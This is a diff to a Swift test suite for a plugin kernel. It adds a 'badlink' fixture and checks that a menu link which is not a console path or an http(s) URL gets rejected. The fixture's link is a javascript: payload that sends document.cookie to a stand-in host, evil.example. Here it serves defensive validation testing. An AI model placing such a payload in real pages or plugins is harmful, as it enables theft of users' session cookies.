@@ -204,6 +204,7 @@ struct KernelTests {
         try f.fixtureBundle("fails", defines: ["ACTIVATE_FAILS"])
         try f.fixtureBundle("dup", defines: ["MENU_ID=\"hello.main\""])
         try f.fixtureBundle("twice", defines: ["REGISTER_TWICE"])
+        try f.fixtureBundle("badlink", defines: ["MENU_ID=\"badlink.main\"", "MENU_LINK=\"javascript:fetch('//evil.example/'+document.cookie)\""])
         try f.fixtureBundle("nocap", capabilities: ["menus"])
         try f.fixtureBundle("toomany", defines: ["EXTRA_ROUTES=300"])
         try TestEnvironment.makeBundle(in: f.plugins, folder: "broken", manifest: "id: broken\nname: [\n", library: nil)
@@ -214,7 +215,7 @@ struct KernelTests {
         let kernel = try f.kernel()
         await kernel.start()
         try await kernel.enable("hello")
-        for id in ["fails", "dup", "twice", "nocap", "toomany", "liar", "nolib"] {
+        for id in ["fails", "dup", "twice", "badlink", "nocap", "toomany", "liar", "nolib"] {
             await #expect(throws: KernelError.self, "\(id)") { try await kernel.enable(id) }
         }
         try await kernel.enable("greeter")
@@ -224,13 +225,14 @@ struct KernelTests {
         #expect(reason("fails").hasSuffix("activate returned KEEL_ERR_UNAVAILABLE: cannot reach the frobnicator"))
         #expect(reason("dup").contains("menu entry \"hello.main\" of plugin \"dup\" is already registered by plugin \"hello\""))
         #expect(reason("twice").contains("conflicts with GET /ping of the same plugin \"twice\""))
+        #expect(reason("badlink").contains("menu entry \"badlink.main\": the link must be a console path starting with \"/\" or an http(s) URL, not \"javascript:fetch("))
         #expect(reason("nocap").contains("capability \"routes\" was not granted"))
         #expect(reason("toomany").contains("over the limit of 256 routes per plugin"))
         #expect(reason("broken").hasPrefix(f.plugins + "/broken/plugin.yaml:3: not valid YAML"))
         #expect(reason("liar").contains("library says id \"hello\" but \(f.plugins)/liar/plugin.yaml says \"liar\""))
         #expect(reason("nolib") == "plugin \"nolib\" (\(f.plugins)/nolib/libnolib.so): no such file")
         #expect(reason("empty-folder") == "\(f.plugins)/empty-folder/plugin.yaml: missing: a plugin bundle needs a plugin.yaml")
-        for id in ["fails", "dup", "twice", "nocap", "toomany", "broken", "liar", "nolib", "empty-folder"] {
+        for id in ["fails", "dup", "twice", "badlink", "nocap", "toomany", "broken", "liar", "nolib", "empty-folder"] {
             #expect(byID[id]?.status == .failed, "\(id)")
             #expect(byID[id]?.routes.isEmpty == true, "\(id) left routes behind")
         }
